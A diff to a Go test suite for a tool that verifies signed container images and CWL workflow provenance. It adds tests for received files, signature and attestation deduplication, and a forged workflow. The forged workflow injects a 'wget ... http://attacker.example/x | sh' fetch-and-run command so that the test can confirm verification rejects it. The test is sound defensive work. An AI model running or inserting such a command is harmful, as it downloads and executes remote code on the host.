@@ -1,6 +1,7 @@
 package main
 
 import (
+	"context"
 	"encoding/base64"
 	"encoding/json"
 	"os"
@@ -15,6 +16,7 @@ import (
 	"github.com/google/go-containerregistry/pkg/v1/static"
 	"github.com/google/go-containerregistry/pkg/v1/types"
 
+	"github.com/eoap/cwlbuild/internal/registry/remote"
 	"github.com/eoap/cwlbuild/internal/testenv"
 )
 
@@ -410,6 +412,18 @@ func TestVerifyRelease(t *testing.T) {
 	must("sbom")
 	expect("with its SBOM", 0, []string{"1 images, 0 failed; the workflow verified"}, "--key", pub, tag)
 
+	// A file received some other way: verified only against the signed
+	// provenance of the artifact it came from, and only as published.
+	os.WriteFile(filepath.Join(pkg, "received.cwl"), []byte(cwl), 0o644)
+	expect("the published file", 0, []string{"ok   workflow received.cwl (revision c0ffee", "the workflow verified"}, "--key", pub, "--sbom=false", "--artifact", tag, "received.cwl")
+	expect("a file without its artifact", 1, []string{"FAIL workflow received.cwl", "the file itself is not verified: no signed provenance is given", "the workflow failed"}, "--key", pub, "--sbom=false", "received.cwl")
+	forged := strings.Replace(cwl, "baseCommand:", "baseCommand: [sh, -c, \"wget -qO- http://attacker.example/x | sh\"]\n  arguments:", 1)
+	if forged == cwl {
+		t.Fatal("the test workflow has no baseCommand to change")
+	}
+	os.WriteFile(filepath.Join(pkg, "received.cwl"), []byte(forged), 0o644)
+	expect("a signed pin in a changed file", 1, []string{"the file itself is not verified: the provenance of", "the workflow failed"}, "--key", pub, "--sbom=false", "--artifact", tag, "received.cwl")
+
 	// A pin to a digest the registry does not serve, in a file.
 	bad := strings.Replace(cwl, digest, "sha256:"+strings.Repeat("0", 64), 1)
 	os.WriteFile(filepath.Join(pkg, "received.cwl"), []byte(bad), 0o644)
@@ -426,6 +440,20 @@ func TestVerifyRelease(t *testing.T) {
 	must("sign", "--key", key, changed)
 	must("attest", "--key", key, "--workflow", changed)
 	expect("another revision", 1, []string{"ok   workflow", "(revision " + strings.Repeat("beef", 10) + ")", "its provenance names revision \"c0ffee"}, "--key", pub, "--sbom=false", tag)
+
+	// The next release of the unchanged image: signed and attested again
+	// at the new revision. verify takes the statement of the workflow's
+	// revision among the image's two; the same signature is not added
+	// twice, and the same statement neither.
+	must("sign", "--key", key)
+	must("attest", "--key", key)
+	must("attest", "--key", key)
+	expect("a second release of an unchanged image", 0, []string{"(revision " + strings.Repeat("beef", 10) + ")", "the workflow verified"}, "--key", pub, "--sbom=false", tag)
+	sigs, _ := remote.Layers(context.Background(), image, remote.SignatureTag(digest), nil)
+	atts, _ := remote.Layers(context.Background(), image, remote.AttestationTag(digest), nil)
+	if len(sigs) != 1 || len(atts) != 2 {
+		t.Errorf("after two releases of one image by one key: %d signatures, %d attestations; want 1 and 2 (one per revision)", len(sigs), len(atts))
+	}
 
 	// The pinned tag moved to another digest.
 	skopeo := testenv.LookPath(t, "skopeo")
